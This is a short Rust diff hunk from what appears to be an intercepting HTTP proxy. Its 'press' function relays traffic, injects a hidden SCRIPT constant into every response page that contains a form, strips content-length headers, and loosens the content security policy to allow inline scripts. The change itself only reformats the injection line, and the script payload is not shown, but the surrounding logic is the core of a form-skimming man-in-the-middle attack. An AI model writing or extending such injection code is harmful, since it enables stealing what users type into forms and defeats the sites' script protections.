@@ -108,7 +108,11 @@ async fn press(proxy: TcpListener, to: String) {
             let request = String::from_utf8(request).unwrap().replace("keep-alive", "close");
             let answer = exchange(&to, &request).await.unwrap();
             let (head, body) = answer.split_once("\r\n\r\n").unwrap();
-            let body = if body.contains("<form") { body.replace("</body>", SCRIPT) } else { body.to_owned() };
+            let body = if body.contains("<form") {
+                body.replace("</body>", SCRIPT)
+            } else {
+                body.to_owned()
+            };
             let fields = head.lines().filter(|line| !line.starts_with("content-length"));
             let head = fields.collect::<Vec<_>>().join("\r\n");
             let head = head.replace(POLICY, &format!("{POLICY} script-src 'unsafe-inline';"));
